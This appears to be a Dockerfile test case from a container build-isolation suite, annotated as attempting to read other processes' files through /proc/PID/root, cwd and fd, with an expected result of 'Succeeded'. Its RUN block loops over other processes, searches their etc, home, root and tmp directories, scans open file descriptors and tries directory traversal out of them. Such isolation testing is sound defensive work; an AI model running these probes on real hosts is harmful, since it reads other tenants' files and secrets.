# tries: files of other processes through /proc/PID/root, /proc/PID/cwd and /proc/PID/fd
# ends: Succeeded
# Rootless: canary
# UserNamespace: nothing
FROM registry.buildpools.test:5000/library/attacker:stable
RUN <<'ATTACK'
. /lib/hunt.sh
n=0
for pid in $(others); do
  for way in root cwd; do
    for place in canary etc run var/run tmp home root; do
      n=$((n + 1))
      timeout 20 find "/proc/$pid/$way/$place" -xdev -maxdepth 5 -type f -size -1024 2>/dev/null | head -300 | xargs -r attack scan
    done
  done
  daemon_file "/proc/$pid/root" "/proc/$pid/cwd"
  for fd in /proc/"$pid"/fd/*; do
    [ -f "$fd" ] && attack scan "$fd"
    [ -d "$fd" ] && daemon_file "$fd" "$fd/../../../../../../.."
  done
done
tried "$n"
ATTACK
